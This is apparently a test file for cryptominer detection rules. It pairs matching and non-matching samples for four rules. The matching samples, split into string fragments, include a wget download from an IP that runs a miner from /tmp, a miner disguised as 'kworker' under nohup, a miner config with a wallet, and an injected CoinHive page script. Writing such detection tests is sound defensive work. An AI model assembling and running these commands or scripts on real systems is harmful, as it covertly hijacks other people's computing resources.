import { checkRule } from "./check-rule.ts";

const wallet = `4${"8"}${"A".repeat(93)}`;
const pool = ["stra", "tum+tcp://pool.example.com:3333"];

checkRule("Miner_Dropped_By_Script", {
  matches: { "a script": ["wget http://203.0.113.5/xm", "rig -O /tmp/k\n/tmp/k -o ", ...pool, "\n"] },
  misses: {
    "a list of pools": [...pool, "\n", ...pool, "\n"],
    "a text about miners": ["The miner xmrig can be had with wget; it connects to a pool by the stratum protocol.\n"],
  },
});

checkRule("Miner_Command_Line", {
  matches: {
    "a command": [`nohup ./kworker -o 203.0.113.5:443 -u ${wallet} --donate-le`, "vel 1 > /dev/null 2>&1 &\n"],
  },
  misses: { "a donation address": [`Donate: ${wallet}\n`], "another user": ["nohup ./worker -u 4000 > /dev/null &\n"] },
});

checkRule("Miner_Settings", {
  matches: {
    "a file": [`{"donate-le`, `vel": 1, "po`, `ols": [{"url": "203.0.113.5:443", "user": "${wallet}"}]}`],
  },
  misses: {
    "the file that comes with the program": ['{"donate-level": 1, "pools": [{"url": "", "user": "YOUR_WALLET"}]}'],
  },
});

checkRule("Miner_In_Web_Page", {
  matches: { "a page": ["<script>var m = new Coin", "Hive.Anony", "mous('key'); m.start();</script>"] },
  misses: { "a block list": ["||coinhive.com^$third-party\n##script[src*='coinhive.min.js']\nCoinHive.Anonymous\n"] },
});
